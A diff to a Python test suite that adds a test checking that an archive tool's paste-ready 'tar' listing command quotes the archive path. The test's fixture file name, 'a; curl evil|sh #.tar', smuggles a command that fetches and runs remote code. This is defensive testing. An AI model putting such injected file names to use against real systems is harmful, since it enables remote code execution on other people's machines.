@@ -3,7 +3,9 @@
 import gzip
 import itertools
 import platform as machine
+import shlex
 from collections.abc import Callable
+from contextlib import closing
 from pathlib import Path
 
 import attrs
@@ -323,3 +325,11 @@ def test_a_file_that_is_gone_is_wrong_usage(tmp_path: Path) -> None:
     """Before anything else is done."""
     with pytest.raises(UsageError, match=r"gone\.tar"):
         ArchiveSource(str(tmp_path / "gone.tar"))
+
+
+def test_the_command_that_lists_an_archive_quotes_its_path(tmp_path: Path) -> None:
+    """It is a hint to paste, and a download may be called anything."""
+    path = tmp_path / "a; curl evil|sh #.tar"
+    path.write_bytes(b"")
+    with closing(ArchiveSource(str(path))) as source:
+        assert shlex.split(source.listing) == ["tar", "-xOf", str(path), "manifest.json"]
